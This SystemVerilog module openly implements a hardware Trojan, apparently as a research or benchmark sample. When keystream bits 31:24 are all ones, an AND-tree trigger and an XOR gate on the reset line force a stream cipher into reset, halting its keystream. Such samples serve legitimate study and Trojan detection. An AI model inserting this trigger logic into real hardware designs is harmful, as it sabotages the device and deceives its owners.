// trojan1: combinational hardware Trojan on the cipher reset.
//
// An AND tree watches keystream bits 31:24. While they are all ones
// (z[31:24] == 8'hFF) its output is 1, and an XOR gate in the reset path
// inverts the active-low reset, pulling rst_n_out low: the cipher is reset
// and its keystream stops (denial of service). Otherwise
// rst_n_out = rst_n_in. No state, no clock; since z comes from the cipher's
// output register and the cipher's reset is synchronous, the path does not
// form a combinational loop.
//
// The AND tree, the bit range and the XOR follow the Trojan's description;
// reading "deactivates the reset signal" as driving the active-low reset
// line low is this design's interpretation.
module trojan1 (
  input  logic [31:0] z,
  input  logic        rst_n_in,
  output logic        rst_n_out,
  output logic        trigger
);

  timeunit 1ns;
  timeprecision 1ps;

  assign trigger   = &z[31:24];
  assign rst_n_out = rst_n_in ^ trigger;

endmodule
